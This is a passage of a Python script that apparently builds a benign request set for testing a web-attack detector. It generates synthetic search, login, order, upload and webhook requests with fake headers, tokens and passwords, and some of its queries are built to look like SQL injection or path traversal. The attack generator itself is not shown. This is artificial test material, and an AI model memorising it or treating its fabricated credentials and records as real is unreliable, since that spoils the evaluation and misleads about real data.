QUERIES = ["select chairs", "union jack flag", "drop shipping", "script fonts", "cats or dogs", "rock & roll", "c++ tutorial", "how to use sed",
           "and or not logic gates", "best 4k tv 2025", "where to buy cheap flights", "order by price", "insert molding", "delete key replacement",
           "java vs python", "sleep mask", "cat toys", "ping pong table", "echo show 8", "curl cream", "bash birthday ideas", "kill bill dvd",
           "touch lamp", "head torch", "tail light bulb", "find my phone", "more info", "less is more", "type c cable", "set of 6 glasses",
           "sort out cables", "file organiser", "time tracker app", "env vars explained", "who is the ceo", "last minute deals", "history books",
           "1=1 puzzle", "5 > 3 worksheet", "the 'best' pizza", "o'reilly books", "\"exact phrase\" search", "price < 50", "size: xl",
           "10% off coupons", "100% wool", "#hashtag ideas", "@mention", "why do cats purr?", "où acheter du pain", "günstige schuhe",
           "зимние шины", "手机壳", "カメラ レンズ", "노트북", "email@example.com", "+33 1 23 45 67 89", "tom & jerry", "a/b testing",
           "../ means parent directory", "what is /etc/passwd", "how does xss work", "sql injection prevention", "what is log4j",
           "select * from users explained", "drop table vs truncate", "<br> tag usage", "javascript: the good parts", "script kiddie meaning",
           "union select meaning", "or 1=1 meaning", "{{ mustache }} templates", "${variable} syntax in bash", "%d format string"]

MARKDOWN = [
    "# Release notes\n\n- Fixed login bug\n- **New:** dark mode\n\nSee [the docs](https://docs.example.com/guide).",
    "Steps to reproduce:\n1. Open the app\n2. Tap *Settings*\n3. Select `Account`\n\nExpected: it opens. Actual: it crashes.",
    "> Quoted reply: \"Thanks, that worked!\"\n\nGlad to hear it :)", "## Summary\nThe `GET /orders` endpoint returns 500 when `limit > 100`.",
    "Use `git pull --rebase` before pushing; see CONTRIBUTING.md.", "| Size | Price |\n|---|---|\n| S | $10 |\n| L | $12 |",
    "~~old price~~ **new price**: €9.99", "Here's the snippet:\n```\nconst total = items.reduce((a, b) => a + b.price, 0);\n```",
    "Image: ![logo](https://cdn.example.com/logo.png)", "Task list:\n- [x] write tests\n- [ ] update docs", "Footnote[^1].\n\n[^1]: Source: annual report.",
    "Run `docker compose up -d` then open http://localhost:3000", "Note: the `select` element needs a `<label>` for accessibility.",
    "I changed `SELECT name FROM users` to use an index -- much faster.", "Email template: Hi {{first_name}}, your order {{order_id}} shipped!",
    "In bash, `${HOME}` expands to your home directory.", "Use <kbd>Ctrl</kbd>+<kbd>C</kbd> to copy.", "H<sub>2</sub>O and E=mc<sup>2</sup>",
]

URLS = ["https://www.example.com/", "https://shop.example.org/products/123?ref=homepage&utm_source=newsletter",
        "https://accounts.example.com/oauth/callback?code=4/0AX4XfWh&state=xyz", "https://example.com/search?q=red+shoes&page=2",
        "https://cdn.example.net/images/photo_2024-01-05.jpg", "/dashboard?tab=orders", "/account/settings#privacy",
        "https://docs.example.com/api/v2/reference#section-3", "https://example.co.uk/path/to/page.html", "mailto:support@example.com",
        "https://maps.example.com/?ll=48.8584,2.2945&z=15", "https://hooks.example.com/services/T000/B000/XXXX", "http://intranet.local/wiki/Home",
        "https://example.com/a/b/../c", "https://www.example.com/redirect?to=%2Fhome"]

UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
       "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
       "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
       "curl/8.7.1", "curl/7.88.1", "python-requests/2.31.0", "python-httpx/0.27.0", "Go-http-client/1.1", "Go-http-client/2.0", "okhttp/4.12.0",
       "aws-sdk-java/2.25.40 Linux/6.1 OpenJDK_64-Bit_Server_VM/21.0.2+13-LTS Java/21.0.2 vendor/Amazon.com_Inc. md/internal exec-env/AWS_Lambda_java21",
       "aws-cli/2.15.40 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/s3.ls", "Boto3/1.34.90 md/Botocore#1.34.90 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.3 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.90",
       "aws-sdk-rust/1.3.0 os/linux lang/rust#1.78.0", "aws-sdk-js/3.565.0 ua/2.0 os/darwin#23.4.0 lang/js md/nodejs#20.12.2 api/s3#3.565.0",
       "PostmanRuntime/7.37.3", "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Java-http-client/21.0.2",
       "Dart/3.3 (dart:io)", "Apache-HttpClient/4.5.14 (Java/17.0.10)", "Wget/1.21.4", "insomnia/2023.5.8", "HTTPie/3.2.2",
       "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
       "okhttp/3.14.9", "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GitHub-Hookshot/8a6e1b4", "Ruby", "Faraday v2.9.0", "RestSharp/110.2.0.0"]

LANGS = ["en-US,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "de-DE,de;q=0.9", "es-ES,es;q=0.9,en;q=0.8", "ja,en-US;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9"]

def b64url(n):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))

def jwt():
    return "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0." + b64url(rng.randint(120, 300)) + "." + b64url(342)

def b64(n):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(alphabet) for _ in range(n)) + rng.choice(["", "=", "=="])

def browser_headers():
    ua = rng.choice(UAS)
    h = [["User-Agent", ua], ["Accept", rng.choice(["application/json", "*/*", "application/json, text/plain, */*",
                                                    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"])]]
    if ua.startswith("Mozilla"):
        h.append(["Accept-Language", rng.choice(LANGS)])
        h.append(["Accept-Encoding", "gzip, deflate, br, zstd"])
        if "Chrome" in ua and rng.random() < 0.6:
            h.append(["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'])
            h.append(["sec-ch-ua-mobile", "?0"])
            h.append(["sec-ch-ua-platform", '"Windows"'])
            h.append(["Sec-Fetch-Mode", "cors"])
        if rng.random() < 0.5:
            h.append(["Referer", rng.choice(["https://shop.example.com/", "https://shop.example.com/products/123?ref=search",
                                             "https://www.google.com/", "https://shop.example.com/cart#checkout"])])
            h.append(["Origin", "https://shop.example.com"])
        if rng.random() < 0.6:
            h.append(["Cookie", "; ".join(rng.sample([
                f"session={b64url(32)}", f"_ga=GA1.2.{rng.randint(10**8, 10**9)}.{rng.randint(10**9, 2*10**9)}",
                "cookie_consent={\"necessary\":true,\"analytics\":false}", "theme=dark", f"csrftoken={b64url(40)}",
                "lang=fr-FR", f"cart={uuid.UUID(int=rng.getrandbits(128))}", "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jun+03+2024",
                f"__Host-sid={b64url(43)}", "last_search=red%20shoes%20size%3A42"], rng.randint(1, 4)))])
    if rng.random() < 0.5:
        h.append(["Authorization", "Bearer " + jwt()])
    if rng.random() < 0.3:
        h.append(["X-Request-Id", str(uuid.UUID(int=rng.getrandbits(128)))])
    if rng.random() < 0.15:
        h.append(["If-None-Match", f'W/"{b64url(16)}"'])
    if rng.random() < 0.15:
        h.append(["X-Forwarded-For", f"203.0.113.{rng.randint(1, 254)}, 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)}"])
    return h

def text():
    return rng.choice(SENTENCES + MARKDOWN) if rng.random() < 0.8 else " ".join(rng.sample(SENTENCES, 2))

def uid():
    return str(uuid.UUID(int=rng.getrandbits(128)))

def benign_request(i):
    kind = rng.choice(["search", "list", "get", "review", "comment", "profile", "login", "order", "contact", "upload",
                       "redirect", "webhook", "events", "message", "graphql", "filter", "token", "tracking", "address", "bulk"])
    h = browser_headers()
    rid = f"benign-{i:05d}-{kind}"
    def json_req(method, path, doc):
        return {"id": rid, "family": "benign", "position": "json", "method": method, "target": path,
                "headers": h + [["Content-Type", rng.choice(["application/json", "application/json; charset=utf-8"])]],
                "body": json.dumps(doc, ensure_ascii=rng.random() < 0.3)}
    def get(target):
        return {"id": rid, "family": "benign", "position": "query", "method": "GET", "target": target, "headers": h, "body": None}
    if kind == "search":
        q = rng.choice(QUERIES)
        enc = urllib.parse.quote_plus(q) if rng.random() < 0.7 else urllib.parse.quote(q)
        return get(f"/api/search?q={enc}&page={rng.randint(1, 9)}&per_page=20")
    if kind == "list":
        return get(f"/api/products?category={rng.choice(['shoes', 'home-garden', 'toys', 'books', 'tv%20%26%20audio'])}"
                   f"&sort={rng.choice(['price', '-price', 'id', 'name', 'created_at', 'rating'])}&order={rng.choice(['asc', 'desc'])}"
                   f"&fields={rng.choice(['id,name,price', 'id', 'name;id', 'all'])}&limit={rng.choice([10, 25, 50, 100])}")
    if kind == "get":
        return get(f"/api/users/{uid()}/orders/{rng.randint(1000, 99999)}?include=items,shipping")
    if kind == "review":
        return json_req("POST", "/api/reviews", {"product_id": rng.randint(1, 5000), "rating": rng.randint(1, 5),
                        "title": rng.choice(SENTENCES)[:40], "body": text(), "author": {"name": rng.choice(NAMES),
                        "email": f"user{rng.randint(1, 999)}@example.com"}, "verified": rng.random() < 0.5, "images": []})
    if kind == "comment":
        return json_req("POST", f"/api/posts/{rng.randint(1, 999)}/comments", {"text": rng.choice(MARKDOWN + SENTENCES),
                        "parent_id": None if rng.random() < 0.5 else rng.randint(1, 9999), "format": "markdown"})
    if kind == "profile":
        return json_req("PUT", "/api/profile", {"name": rng.choice(NAMES), "bio": text(), "website": rng.choice(URLS),
                        "address": {"street": rng.choice(STREETS), "city": rng.choice(CITIES), "postcode": rng.choice(["75001", "94043", "SW1A 2AA", "D02 X285", "10115"]),
                                    "country": rng.choice(["FR", "US", "GB", "IE", "DE", "JP"])}, "phone": rng.choice(["+1 (555) 010-9999", "+44 20 7946 0958", "+33 1 23 45 67 89"]),
                        "birthday": f"19{rng.randint(50, 99)}-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}", "newsletter": rng.random() < 0.5})
    if kind == "login":
        pw = rng.choice(["correct horse battery staple", "P@ssw0rd!2024", "s3cr3t'pass\"word", "hunter2", "Tr0ub4dor&3", "my;pass=word", "<secret>", "1=1isnotapassword"])
        return json_req("POST", "/api/login", {"username": rng.choice(["jane", "o'brien", "admin@example.com", "user_42", "josé"]), "password": pw, "remember": True})
    if kind == "order":
        return json_req("POST", "/api/orders", {"items": [{"sku": f"SKU-{rng.randint(100, 999)}-{rng.choice('ABCDEF')}", "qty": rng.randint(1, 5),
                        "price": round(rng.uniform(1, 500), 2)} for _ in range(rng.randint(1, 4))], "coupon": rng.choice([None, "SAVE10", "WELCOME-2025"]),
                        "notes": text(), "shipping": {"name": rng.choice(NAMES), "street": rng.choice(STREETS), "city": rng.choice(CITIES)},
                        "currency": rng.choice(["USD", "EUR", "GBP"]), "idempotency_key": uid()})
    if kind == "contact":
        form = urllib.parse.urlencode({"name": rng.choice(NAMES), "email": "jane.doe+shop@example.com", "subject": rng.choice(SENTENCES)[:30], "message": text()})
        return {"id": rid, "family": "benign", "position": "form", "method": "POST", "target": "/api/contact",
                "headers": h + [["Content-Type", "application/x-www-form-urlencoded"]], "body": form}
    if kind == "upload":
        boundary = "----WebKitFormBoundary" + b64url(16).replace("-", "x").replace("_", "y")
        fname = rng.choice(["report Q3 (final).pdf", "photo_2024-05-01.jpg", "CV - José Álvarez.docx", "data.csv", "O'Brien invoice #12.pdf", "scan 001.png"])
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{rng.choice(SENTENCES)}\r\n"
                f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
                f"{b64(200)}\r\n--{boundary}--\r\n")
        return {"id": rid, "family": "benign", "position": "multipart", "method": "POST", "target": "/api/uploads",
                "headers": h + [["Content-Type", f"multipart/form-data; boundary={boundary}"]], "body": body}
    if kind == "redirect":
        return get(f"/api/auth/login?next={urllib.parse.quote(rng.choice(URLS), safe='')}&prompt=consent")
    if kind == "webhook":
        return json_req("POST", "/api/webhooks", {"url": rng.choice(URLS[:4] + ["https://hooks.example.com/services/T000/B000/XXXX"]),
                        "events": rng.sample(["order.created", "order.paid", "refund.issued", "user.deleted"], 2), "secret": b64(32), "active": True})
    if kind == "events":
        return get(f"/api/events?from=2025-0{rng.randint(1, 9)}-01T00:00:00Z&to=2025-12-31T23:59:59%2B01:00&type=order.created&cursor={b64url(24)}")
    if kind == "message":
        return json_req("POST", "/api/messages", {"to": rng.choice(NAMES), "body": rng.choice(SENTENCES), "attachments": [], "sent_at": "2025-06-01T12:34:56.789Z"})
    if kind == "graphql":
        query = rng.choice(["query GetUser($id: ID!) { user(id: $id) { id name orders(first: 10) { edges { node { id total } } } } }",
                            "mutation AddItem($sku: String!, $qty: Int!) { addToCart(sku: $sku, qty: $qty) { cart { id items { sku qty } } } }",
                            "query { products(filter: {price: {lt: 50}, category: \"toys\"}, orderBy: PRICE_ASC) { id name price } }",
                            "{ search(text: \"union jack\") { ... on Product { id name } ... on Article { title } } }"])
        return json_req("POST", "/graphql", {"query": query, "variables": {"id": uid(), "sku": "SKU-1", "qty": 2}, "operationName": None})
    if kind == "filter":
        return json_req("POST", "/api/products/search", {"filters": {"price": {"gte": 10, "lte": 100}, "brand": ["Acme", "O'Neill"], "in_stock": True},
                        "sort": [{"field": "price", "order": "asc"}], "query": rng.choice(QUERIES), "page": {"size": 20, "after": b64url(20)}})
    if kind == "token":
        return json_req("POST", "/api/oauth/token", {"grant_type": "refresh_token", "refresh_token": jwt(), "client_id": uid(), "scope": "openid profile email orders:read"})
    if kind == "tracking":
        return get(f"/api/landing?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&gclid={b64url(40)}&fbclid={b64url(60)}"
                   f"&ref={urllib.parse.quote(rng.choice(URLS), safe='')}")
    if kind == "address":
        form = urllib.parse.urlencode({"street": rng.choice(STREETS), "city": rng.choice(CITIES), "zip": "75001", "notes": rng.choice(SENTENCES)})
        return {"id": rid, "family": "benign", "position": "form", "method": "POST", "target": "/api/address",
                "headers": h + [["Content-Type", "application/x-www-form-urlencoded"]], "body": form}
    # bulk
    return json_req("POST", "/api/bulk", {"operations": [{"op": rng.choice(["insert", "update", "delete", "select"]), "id": uid(),
                    "data": {"title": rng.choice(SENTENCES), "price": f"${rng.randint(1, 999)}.99"}} for _ in range(rng.randint(2, 6))]})

def main():
    attack = attacks()
    benign = [benign_request(i) for i in range(3200)]
    for name, rows in (("attacks.jsonl", attack), ("benign.jsonl", benign)):
        with open(HERE / name, "w", encoding="utf-8") as f:
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
        print(f"{name}: {len(rows)} requests")

if __name__ == "__main__":
    main()
